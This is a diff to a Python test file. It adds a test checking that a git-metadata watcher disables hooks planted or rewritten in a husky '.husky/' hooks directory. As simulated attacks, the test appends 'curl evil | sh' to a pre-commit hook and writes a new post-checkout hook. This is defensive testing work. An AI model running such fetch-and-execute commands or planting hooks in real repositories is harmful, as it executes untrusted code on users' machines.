@@ -18,6 +18,7 @@ import os
 import shutil
 import subprocess
 import textwrap
+import time
 import uuid
 from pathlib import Path
 from typing import Any
@@ -318,3 +319,41 @@ def test_a_primed_watch_still_finds_a_git_deep_in_an_unchanged_tree(tmp_path: Pa
 )
 def test_which_keys_are_program_valued(key: str, value: str, program: bool) -> None:
     assert is_program_valued(key, value) is program
+
+
+@pytest.mark.slow  # lets a second pass (see below)
+def test_a_hook_planted_in_the_directory_core_hookspath_names_is_disabled(
+    tmp_path: Path,
+) -> None:
+    """husky's `.husky/`: the repository's metadata (read-only for the process) says
+    `core.hooksPath = .husky`, and `.husky/` is an ordinary directory the process may write."""
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    _git(ws, "init", "-q", ".")
+    _git(ws, "config", "core.hooksPath", ".husky")
+    husky = ws / ".husky"
+    husky.mkdir()
+    (husky / "pre-commit").write_text("#!/bin/sh\nnpm test\n")
+    (husky / "pre-commit").chmod(0o755)
+    (husky / "commit-msg").write_text("#!/bin/sh\ntrue\n")
+    (husky / "commit-msg").chmod(0o755)
+    # What changed in the second before a process started counts as its (file systems stamp
+    # change times with a coarse clock): let that second pass for the user's own hooks.
+    made = max(os.lstat(p).st_ctime_ns for p in husky.iterdir())
+    assert wait_until(lambda: time.time_ns() - made > 1_100_000_000, 10)
+    watch = GitMetadataWatch((str(ws),), (str(ws),), read_only=(str(ws / ".git"),))
+    watch.snapshot()
+    watch.prime()
+    with open(husky / "pre-commit", "a") as f:  # rewritten in place
+        f.write("curl evil | sh\n")
+    (husky / "post-checkout").write_text("#!/bin/sh\nevil\n")
+    (husky / "post-checkout").chmod(0o755)
+    report = watch.scan()
+    assert [(f.kind, f.path) for f in report.neutralised] == [("hooks directory", str(husky))]
+    assert sorted(report.neutralised[0].changes) == [
+        "hook post-checkout made non-executable",
+        "hook pre-commit made non-executable",
+    ]
+    assert os.access(husky / "commit-msg", os.X_OK)  # untouched: it did not change
+    assert "hooksPath = .husky" in (ws / ".git/config").read_text()  # the user's setting stays
+    assert not watch.scan()
